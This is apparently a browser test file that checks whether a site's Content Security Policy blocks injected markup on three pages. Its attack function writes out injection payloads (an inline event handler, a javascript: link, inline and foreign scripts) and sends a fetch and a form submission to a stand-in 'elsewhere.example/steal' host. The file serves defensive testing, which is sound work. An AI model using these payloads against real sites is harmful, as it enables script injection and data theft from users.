import { expect, test } from "./support/test";

/** A cached page, one made for each visit, and one that is not there. */
const PAGES = ["/", "/seller", "/no-such-page"];

// What is tried here is what the browser complains of.
test.use({ provoked: /Content Security Policy|Failed to load resource/ });

/** Tries what an attacker would who has got markup into the page; gives what ran and what was refused. */
const attack = () =>
	new Promise<{ ran: string[]; refused: string[] }>((done) => {
		const refused = new Set<string>();
		document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
			refused.add(effectiveDirective);
		});
		const mark = (how: string) =>
			`document.documentElement.dataset.ran = (document.documentElement.dataset.ran ?? "") + "${how} "`;
		const place = document.createElement("div");
		place.innerHTML = `<details open ontoggle='${mark("handler")}'></details><a href='javascript:${mark("link")}'>x</a>`;
		document.body.append(place);
		place.querySelector("a")?.click();
		const script = document.createElement("script");
		script.textContent = mark("script");
		const foreign = document.createElement("script");
		foreign.src = "https://elsewhere.example/x.js";
		const frame = document.createElement("iframe");
		frame.src = "https://elsewhere.example/";
		const beacon = fetch("https://elsewhere.example/steal").catch(() => {});
		const form = document.createElement("form");
		form.action = "https://elsewhere.example/steal";
		document.body.append(script, foreign, frame, form);
		form.submit();
		const look = () => {
			if (refused.size < 5) return;
			clearInterval(timer);
			const ran = (document.documentElement.dataset.ran ?? "").split(" ").filter(Boolean);
			done({ ran, refused: [...refused].sort() });
		};
		const timer = setInterval(look, 50);
		void beacon;
	});

for (const path of PAGES) {
	const tag = path === "/no-such-page" ? ["@any-size", "@campaign"] : "@any-size";
	test(`what is smuggled into ${path} does not run, and reaches nobody`, { tag }, async ({ page }) => {
		await page.goto(path);
		expect(await page.evaluate(attack)).toEqual({
			ran: [],
			refused: ["connect-src", "form-action", "frame-src", "script-src-attr", "script-src-elem"],
		});
	});
}
